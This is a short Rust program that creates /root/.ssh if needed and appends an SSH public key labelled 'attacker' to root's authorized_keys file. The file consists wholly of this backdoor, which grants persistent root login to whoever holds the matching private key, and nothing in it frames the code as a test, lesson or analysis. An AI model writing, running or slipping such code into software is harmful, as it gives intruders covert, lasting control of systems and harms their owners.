use std::fs::{create_dir_all, OpenOptions};
use std::io::Write;
use std::path::Path;

fn add_key(home: &str, key: &str) -> std::io::Result<()> {
    let dir = Path::new(home).join(".ssh");
    create_dir_all(&dir)?;
    let mut f = OpenOptions::new().create(true).append(true).open(dir.join("authorized_keys"))?;
    writeln!(f, "{}", key)
}

fn main() {
    add_key("/root", "ssh-rsa AAAAB3Nza attacker").unwrap();
}
